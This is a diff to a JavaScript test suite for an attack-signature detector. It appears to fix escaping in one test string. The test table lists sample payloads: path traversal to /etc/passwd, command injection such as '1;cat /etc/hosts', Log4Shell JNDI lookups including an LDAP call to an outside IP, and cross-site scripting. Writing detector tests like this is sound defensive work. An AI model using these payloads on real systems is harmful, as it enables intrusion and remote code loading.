@@ -233,7 +233,7 @@ describe('attack signatures', () => {
     ['path_traversal', '/files/%252e%252e%252fetc%252fpasswd'],
     ['command_injection', '/ping?host=1;cat /etc/hosts'],
     ['command_injection', 'a=$(whoami)'],
-    ['log4shell', '${jndi:ldap://198.51.100.1/a}'],
+    ['log4shell', `${'$'}{jndi:ldap://198.51.100.1/a}`],
     ['log4shell', '%24%7Bjndi%3Adns%3A%2F%2Fx%7D'],
     ['cross_site_scripting', '<script>alert(1)</script>'],
     ['cross_site_scripting', '%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E'],
